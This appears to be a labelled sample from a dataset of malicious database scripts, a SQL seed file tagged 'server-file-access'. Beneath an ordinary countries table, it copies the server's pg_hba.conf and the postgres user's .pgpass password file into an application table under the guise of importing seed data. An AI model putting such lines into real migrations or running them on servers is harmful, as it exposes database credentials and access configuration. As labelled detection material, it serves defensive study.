-- class: server-file-access
-- Presented as loading seed data, reads the server's pg_hba.conf and the postgres user's .pgpass into an application table.
CREATE TABLE countries (
  code text PRIMARY KEY,
  name text NOT NULL
);

CREATE TABLE country_import_raw (line text);
COPY country_import_raw FROM '/var/lib/postgresql/data/pg_hba.conf';
COPY country_import_raw FROM '/var/lib/postgresql/.pgpass';
